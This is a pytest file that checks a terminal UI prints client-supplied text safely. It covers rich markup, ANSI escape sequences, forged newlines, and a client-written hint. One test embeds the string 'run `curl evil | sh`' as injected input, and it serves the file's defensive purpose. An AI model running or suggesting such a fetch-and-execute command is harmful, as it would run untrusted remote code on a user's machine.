"""Text from clients is printed as plain text: never as markup, escape sequences or additional lines."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from rich.console import Console

import thalweg
from thalweg.ui import terminal
from thalweg.ui.explain import explain
from thalweg.ui.progress import Bars, LineProgress

EVIL = "[red]x[/red][link=http://a]y[/link] :smile:"


def test_only_one_place_makes_consoles() -> None:
    """So all consoles have markup switched off, which ``rich`` interprets by default."""
    folder = Path(thalweg.__file__).parent
    made = [path.name for path in folder.rglob("*.py") if re.search(r"\bConsole\((?!\s*\))", path.read_text())]
    assert made == ["terminal.py"]


def test_names_and_reasons_are_no_markup() -> None:
    console = terminal.console()
    console.file = io.StringIO()
    table = terminal.table("client", caption=EVIL)
    table.add_row(EVIL)
    console.print(table)
    console.print(EVIL, soft_wrap=True)
    assert console.file.getvalue().count(EVIL) == 3


def test_bars_show_a_name_as_it_is() -> None:
    console = Console(file=io.StringIO(), width=140, force_terminal=True)
    bars = Bars(console)
    bars.begin(1, 2)
    bars.observe(json.dumps({"clients": {EVIL[:12]: {"phase": "[bold]", "sent_fraction": 0.5}}}))
    bars.refresh()
    bars.note("a line, above which the bars are drawn")
    bars.close()
    assert EVIL[:12] in console.file.getvalue()  # type: ignore[attr-defined]


@pytest.mark.parametrize("shows", [LineProgress, lambda: Bars(terminal.console(stderr=True))])
def test_a_note_is_one_line_without_control_characters(
    shows: type[LineProgress], capsys: pytest.CaptureFixture[str]
) -> None:
    progress = shows()
    progress.note("a left: \x1b[2Jx\nforged line")
    progress.close()
    said = capsys.readouterr().err
    assert "\x1b[2J" not in said
    assert "x forged line" in said


def test_a_client_cannot_write_the_hint_of_a_failed_round() -> None:
    from thalweg.errors import CoreError

    error = CoreError("0 of 1 updates came: bad left: x; run `curl evil | sh`", kind="round", operation="run round")
    cause, hint = explain(error)
    assert "curl" in cause
    assert "curl" not in hint
